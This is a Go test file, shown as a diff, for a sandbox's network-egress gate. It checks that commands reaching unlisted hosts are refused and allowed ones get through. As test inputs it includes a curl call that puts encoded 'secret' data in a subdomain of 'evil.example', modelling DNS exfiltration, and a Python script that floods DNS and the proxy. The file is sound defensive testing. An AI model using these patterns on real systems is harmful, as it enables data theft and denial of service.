@@ -1,0 +1,152 @@
+package process
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"textskill/skill/internal/egress"
+	"textskill/testdata/needs"
+)
+
+// gated returns a Runner whose commands have a network of their own and reach hosts.
+func gated(t *testing.T, rules egress.Rules, hosts map[string]string) *Runner {
+	t.Helper()
+	x := newRunner(t, t.TempDir(), Config{Helper: self(t), Egress: rules, hosts: hosts})
+	held := x.Fence()
+	needs.That(t, held.Alone, "network namespaces", "let users make them")
+	return x
+}
+
+// origin serves its name and what it was asked at a port of this machine.
+func origin(t *testing.T) (port int) {
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, r.Host, r.URL.Path) }))
+	t.Cleanup(s.Close)
+	return s.Listener.Addr().(*net.TCPAddr).Port
+}
+
+// Programs that ask for another machine are refused at once, and the answer names the host.
+func TestHostsAreRefused(t *testing.T) {
+	x := gated(t, egress.Rules{}, nil)
+	needs.Program(t, "curl")
+	for _, tt := range []struct{ program, script, refused string }{
+		{"curl", "curl -sS https://example.org/", "example.org"},
+		{"getent", "getent hosts a.example.org b.example.org", "a.example.org b.example.org"},
+		{"curl", "curl -sS -x $npm_config_proxy https://registry.example/x", "registry.example:443"},
+		{"curl", "curl -sSf -x $npm_config_proxy http://registry.example:8080/x", "registry.example:8080"},
+		{"npm", "npm install --registry https://registry.example/ left-pad", "registry.example:443"},
+		{"npx", "npx --registry https://registry.example/ left-pad", "registry.example:443"},
+		{"pip", "python3 -m pip download --index-url https://index.example/simple six", "index.example:443"},
+		{"git", "git ls-remote https://git.example/x", "git.example"},
+		{"cargo", "mkdir -p c/src && cd c && touch src/lib.rs && printf '[package]\\nname=\"a\"\\nversion=\"0.1.0\"\\n[dependencies]\\nx=\"1\"\\n' > Cargo.toml && cargo fetch", "index.crates.io:443"},
+		{"curl", "curl -sS http://203.0.113.9/", ""},
+	} {
+		t.Run(tt.program, func(t *testing.T) {
+			needs.Program(t, tt.program)
+			begin := time.Now()
+			got := mustExec(t, x, sh(tt.script))
+			if !got.Failed() || strings.Join(got.Refused, " ") != tt.refused {
+				t.Errorf("%s: refused %q, want %s\n%s%s", tt.script, got.Refused, tt.refused, got.Stdout, got.Stderr)
+			}
+			t.Logf("%s: %v", tt.script, time.Since(begin))
+		})
+	}
+}
+
+// A host that is allowed is reached at its port, by programs that use the proxy and by others.
+// Nothing else is.
+func TestHostsAreReached(t *testing.T) {
+	needs.Program(t, "curl")
+	port := origin(t)
+	at := func(host string) string { return fmt.Sprintf("%s:%d", host, port) }
+	x := gated(t, egress.Rules{Allow: []string{at("good.example"), "*." + at("wild.example"), "good.example:1"}, Deny: []string{"no.wild.example"}},
+		map[string]string{"good.example": "127.0.0.1", "evil.example": "127.0.0.1", "a.wild.example": "127.0.0.1", "wild.example": "127.0.0.1", "no.wild.example": "127.0.0.1"})
+	for script, want := range map[string]string{
+		"curl -sS http://" + at("good.example") + "/x":                        at("good.example") + " /x",
+		"curl -sSp http://" + at("good.example") + "/x":                       at("good.example") + " /x",
+		"curl -sS -x $ALL_PROXY http://" + at("good.example") + "/x":          at("good.example") + " /x",
+		"curl -sS --noproxy '*' http://" + at("good.example") + "/x":          at("good.example") + " /x",
+		"curl -sS http://" + at("a.wild.example") + "/x":                      at("a.wild.example") + " /x",
+		"curl -sS -o /dev/null -w %{http_code} http://" + at("wild.example"):  "403",
+		"curl -sS -o /dev/null -w %{http_code} http://" + at("evil.example"):  "403",
+		"curl -sS -o /dev/null -w %{http_code} http://good.example":           "403",
+		"curl -sS -o /dev/null -w %{http_code} http://" + at("127.0.0.1"):     "000",
+		"curl -sS --noproxy '*' http://" + at("evil.example"):                 "",
+		"curl -sS --noproxy '' -x $HTTP_PROXY http://" + at("127.0.0.1"):      "hosts are reached by their name only",
+		"curl -sS -x $HTTP_PROXY http://" + at("no.wild.example"):             "--deny-domain denies it",
+		"curl -sSp http://" + at("evil.example"):                              "",
+		"curl -sSp -x $HTTP_PROXY http://good.example:1/":                     "",
+		"curl -sS --noproxy '*' --resolve good.example:80:127.1.0.1 http://x": "",
+	} {
+		got := mustExec(t, x, sh(script))
+		said := strings.TrimSpace(string(got.Stdout))
+		if want == "" && (said != "" || !got.Failed()) || !strings.Contains(said, want) {
+			t.Errorf("%s: %s%s", script, got.Stdout, got.Stderr)
+		}
+	}
+	got := mustExec(t, x, sh("curl -sS http://"+at("evil.example")+"; curl -sS --noproxy '*' http://c2VjcmV0.evil.example"))
+	if want := []string{at("evil.example"), "c2vjcmv0.evil.example"}; !slices.Equal(got.Refused, want) {
+		t.Errorf("refused %q, want %q", got.Refused, want)
+	}
+	for _, rule := range []string{"a b", "*.org", "10.0.0.1", "x:0", "https://example.org", "a..b", ""} {
+		if _, err := runnerOn(t.TempDir(), Config{Egress: egress.Rules{Allow: []string{rule}}}); err == nil {
+			t.Errorf("%q is taken for a host", rule)
+		}
+	}
+}
+
+// Commands of programs with different hosts have different networks.
+func TestNetworksAreOfEqualHosts(t *testing.T) {
+	x := gated(t, egress.Rules{}, nil)
+	y, err := runnerOn(x.ws.Dir(), Config{Helper: self(t), Egress: egress.Rules{Allow: []string{"good.example"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer y.ws.Close()
+	defer y.Close()
+	s, err := x.StartServer(t.Context(), "", ServerCommand{Command: "sleep 100", Port: needs.Port(t), Wait: time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer x.StopServer(ServerName{ID: s.ID})
+	show := sh("readlink /proc/self/ns/net")
+	own, other := mustExec(t, x, show), mustExec(t, y, show)
+	if string(own.Stdout) == string(other.Stdout) || own.Failed() || other.Failed() {
+		t.Errorf("%s and %s", own.Stdout, other.Stdout)
+	}
+}
+
+// Many names, connections and broken questions do not stop the next command.
+func TestFloodsAreBounded(t *testing.T) {
+	needs.Program(t, "python3", "curl")
+	port := origin(t)
+	x := gated(t, egress.Rules{Allow: []string{fmt.Sprint("good.example:", port)}}, map[string]string{"good.example": "127.0.0.1"})
+	script := `import os, socket, struct, sys
+server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((server, 53))
+for i in range(2000):
+    q = struct.pack('>HHHHHH', i, 0x100, 1, 0, 0, 0) + b'\x06x%05d' % i + b'\x04evil\x07example\x00' + struct.pack('>HH', 1, 1)
+    s.send(q); s.recv(512)
+for junk in b'', b'x', b'\0' * 12, b'\xff' * 500, q[:20]: s.send(junk)
+s.send(q); assert s.recv(512)
+proxy = os.environ['https_proxy'].rsplit(':', 1)
+some = []
+for i in range(400):
+    c = socket.create_connection(('127.0.0.1', int(proxy[1]))); some.append(c)
+    c.send(b'CONNECT good.example:%s HTTP/1.1\r\nHost: x\r\n\r\n' % sys.argv[1].encode())
+print(some[0].recv(12))
+`
+	got := mustExec(t, x, Command{Name: "python3", Args: []string{"-c", script, fmt.Sprint(port)}})
+	if got.Failed() && !strings.Contains(string(got.Stderr), "nameserver") || len(got.Refused) > 32 {
+		t.Errorf("%d are refused: %s%s", len(got.Refused), got.Stdout, got.Stderr)
+	}
+	got = mustExec(t, x, sh(fmt.Sprintf("curl -sS -m 9 http://good.example:%d/x", port)))
+	if got.Failed() {
+		t.Errorf("afterwards: %s%s", got.Stdout, got.Stderr)
+	}
+}
